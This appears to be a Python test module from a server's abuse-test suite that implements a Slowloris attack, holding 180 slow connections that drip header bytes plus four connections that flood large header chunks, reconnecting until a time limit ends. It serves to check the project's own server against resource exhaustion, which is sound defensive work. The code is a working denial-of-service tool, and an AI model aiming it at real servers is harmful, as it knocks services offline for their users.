"""Requests whose headers never end: a byte at a time, or as many as fit (Slowloris)."""

from __future__ import annotations

import asyncio
import time
from contextlib import suppress

from tests.server.abuse.attacks import Attack
from tests.server.abuse.raw_socket import STRANGER

SLOW = 180
"""Within the connections that one address may have."""
FAST = 4
START = b"GET /api/games HTTP/1.1\r\nHost: localhost\r\nX-Long: "


async def run(url: str, seconds: float) -> None:
    """Keep requests unfinished until the server closes them; start again until the time is up."""
    place, port = url.removeprefix("http://").split(":")
    end = time.monotonic() + seconds

    async def repeat(piece: bytes, pause: float) -> None:
        while time.monotonic() < end:
            with suppress(OSError, TimeoutError):
                async with asyncio.timeout(end - time.monotonic()):
                    await _drip(place, int(port), piece, pause)
            await asyncio.sleep(0.2)

    slow = (repeat(b"x", 0.5) for _ in range(SLOW))
    fast = (repeat(b"x" * 50_000, 0.01) for _ in range(FAST))
    await asyncio.gather(*slow, *fast)


async def _drip(place: str, port: int, piece: bytes, pause: float) -> None:
    reader, writer = await asyncio.open_connection(place, port, local_addr=STRANGER)
    try:
        writer.write(START)
        while not reader.at_eof():
            writer.write(piece)
            await writer.drain()
            await asyncio.sleep(pause)
    finally:
        writer.close()


ATTACK = Attack("slow_headers", run)
